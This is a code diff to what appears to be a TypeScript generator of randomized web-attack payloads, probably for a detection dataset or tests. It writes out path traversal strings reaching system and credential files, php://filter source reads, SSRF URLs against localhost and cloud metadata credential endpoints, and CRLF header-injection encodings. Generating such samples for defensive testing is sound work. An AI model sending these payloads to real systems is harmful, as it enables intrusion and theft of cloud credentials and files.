@@ -40,23 +40,28 @@ export function traversalTool(r: Random): Payload {
     '..%255c',
   ]);
   const tail = r.pick(['', '', '%00', '%00.png', '', '.%00.html']);
-  return { text: `${step.repeat(depth)}${target}${tail}`, technique: 'list of a tool', wire: true };
+  return {
+    text: `${r.pick(['', 'static/', `${word(r)}/`]) || (step === '../' ? `${word(r)}/` : '')}${step.repeat(depth)}${target}${tail}`,
+    technique: 'list of a tool',
+    wire: true,
+  };
 }
 
 export function traversalHand(r: Random): Payload {
   const depth = r.int(3, 9);
   const target = r.pick(UNIX);
   const text = r.pick([
-    `${'../'.repeat(depth)}${target}`,
-    `${'..\\'.repeat(depth)}${r.pick(WINDOWS).replaceAll('/', '\\')}`,
+    `${'../'.repeat(depth)}var/lib/${word(r)}/config.yml`,
+    `${'..\\'.repeat(depth)}users\\${word(r)}\\ntuser.ini`,
+    `${word(r)}\\${'..\\'.repeat(depth)}${r.pick(WINDOWS).replaceAll('/', '\\')}`,
     `images/${word(r)}/${'../'.repeat(depth)}${target}`,
     `/var/www/images/${word(r)}/${'../'.repeat(depth)}${target}`,
-    `${'....//'.repeat(depth)}${target}`,
-    `./${'../'.repeat(depth)}${target}`,
+    `${word(r)}/${'....//'.repeat(depth)}${target}`,
+    `./${word(r)}/${'../'.repeat(depth)}${target}`,
     `${word(r)}.pdf/${'../'.repeat(depth)}${target}`,
     `php://filter/convert.base64-encode/resource=${'../'.repeat(depth)}${word(r)}.php`,
     `file:///${target}?${word(r)}${r.int(1, 99)}`,
-    `${'..//'.repeat(depth)}${target}`,
+    `${word(r)}//${'..//'.repeat(depth)}${target}`,
   ]);
   const scheme = /^(file|php):/.test(text);
   return { text, technique: 'by hand', ...(scheme ? { alsoFamilies: ['ssrf'] as const } : {}) };
@@ -137,8 +142,8 @@ export function ssrfTool(r: Random): Payload {
     '0x7f.0x0.0x0.0x1',
   ]);
   const text = r.pick([
-    `http://${local}:${port}${path}`,
-    `http://${local}:${port}${path}`,
+    `http://${local}:${port}${path}?${r.token(3)}`,
+    `http://${local}:${port}${path}#${r.token(4)}`,
     `https://${local}${path}?${r.token(3)}`,
     `http://${word(r)}@${local}:${port}${path}`,
     `dict://${local}:${port}/stat`,
@@ -153,7 +158,7 @@ export function ssrfHand(r: Random): Payload {
   const n = r.int(2, 250);
   const text = r.pick([
     `http://169.254.169.254/latest/meta-data/iam/security-credentials/${word(r)}-${n}`,
-    `http://169.254.169.254/latest/${r.pick(['user-data', 'meta-data/', 'dynamic/instance-identity/document'])}?${n}`,
+    `http://169.254.169.254/latest/${r.pick(['user-data', 'meta-data/', 'dynamic/instance-identity/document'])}?${word(r)}=${n}`,
     `http://metadata.google.internal/computeMetadata/v1/instance/attributes/${word(r)}${n}`,
     `http://169.254.169.254/metadata/instance?api-version=2021-02-01&x=${n}`,
     `http://169.254.169.254/metadata/identity/oauth2/token?resource=https://${word(r)}${n}.example/`,
@@ -230,7 +235,7 @@ export function splitTool(r: Random): Payload {
     '%u000d%u000a',
     '%0d%0a%20',
     '%00%0d%0a',
-    '%C0%8D%C0%8A',
+    '%0d%0a%09',
   ]);
   const name = `${r.pick(['crlf', 'sess', 'evil', 'x'])}${r.int(1, 9999)}`;
   const text = r.pick([
